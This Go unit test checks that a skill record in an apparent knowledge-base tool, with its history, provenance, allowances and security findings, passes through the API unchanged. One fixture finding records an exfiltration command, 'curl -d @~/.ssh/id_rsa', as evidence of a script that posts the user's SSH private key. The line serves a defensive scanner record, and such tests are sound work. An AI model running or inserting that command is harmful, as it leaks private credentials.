package local

import (
	"reflect"
	"testing"
	"time"

	"github.com/lore-kb/lore/core"
	"github.com/lore-kb/lore/core/api"
	"github.com/lore-kb/lore/core/skills"
	"github.com/lore-kb/lore/core/skills/search"
)

// A skill's record crosses the API whole when it carries its detail: a
// client printing it (lore skills show, the Skills screen) reads what it
// would read from the store.
func TestSkillDetailCrossesTheAPIWhole(t *testing.T) {
	at := time.Date(2026, 3, 4, 5, 6, 7, 8, time.UTC)
	f := core.Finding{File: "scripts/run.sh", Category: "exfiltration", Severity: core.Critical, Description: "sends the key away",
		Location: "scripts/run.sh:3:1", Offset: -1, Evidence: "curl -d @~/.ssh/id_rsa", Recommendation: "remove it",
		Flow: &core.Flow{Source: "~/.ssh/id_rsa", SourceLine: 2, Sink: "curl", SinkLine: 3, Scope: "after any task"}}
	sk := &skills.Skill{Key: "team.deploy",
		Content: skills.Content{Name: "deploy", Description: "Deploy the service", Instructions: "Run make deploy.",
			ExampleQueries: []string{"how do I deploy"}, Extends: "team.base", Imports: []string{"team.git"},
			SuggestedTools: []string{"make"}, TaskType: search.Code, Negative: true, License: "MIT", Compatibility: "bash",
			AllowedTools: "Bash(make:*)", Metadata: map[string]string{"team": "ops"},
			Files:    []skills.File{{Path: "scripts/run.sh", Content: []byte("#!/bin/sh\n"), Mode: 0o755}},
			Original: &skills.Original{SkillMD: []byte("---\nname: deploy\n---\n"), Mode: 0o644, Folder: "deploy"}},
		Source: skills.Imported, Status: skills.Draft, Visibility: skills.User, Owner: "ann", Hash: "h2", Version: 2,
		Provenance: skills.Provenance{Session: "s1", Document: "ops.md", Domain: "ops", By: "import", User: "ann", Agent: "claude", AgentSession: "a1"},
		History: []skills.Version{{Number: 1, At: at, Reason: "edited", Hash: "h1", Content: skills.Content{Name: "deploy", Description: "Old"},
			Findings: []core.Finding{f}, FindingsKept: true}},
		Lineage: skills.Lineage{MergedFrom: []string{"team.ship"}, SourceHashes: []string{"abc"}, Origin: "https://example.org/deploy"},
		Uses:    5, Successes: 3, Failures: 2, LastUsed: at, Helpful: 4, Harmful: 1, FailureSignatures: map[string]int{"timeout": 2},
		Created: at.Add(-time.Hour), Updated: at, Note: "imported", Findings: []core.Finding{f},
		Outcomes: []skills.Outcome{{At: at, Success: true, Note: "worked", Findings: []core.Finding{f}}},
		Allowed:  []skills.Allowance{{Consumer: "claude", Hash: "h2", By: "rex", At: at}}}

	m := Skill(sk, at)
	m.Detail = detail(sk, at)
	got := api.SkillOf(m)
	if !reflect.DeepEqual(got, sk) {
		t.Errorf("the record changed on its way:\n got  %+v\n want %+v", got, sk)
	}
	// Without its detail a message is the summary an agent reads: no
	// body, no files.
	if brief := api.SkillOf(Skill(sk, at)); brief.Instructions != "" || brief.Files != nil || brief.Key != sk.Key || brief.Uses != sk.Uses {
		t.Errorf("summary: %+v", brief)
	}
}
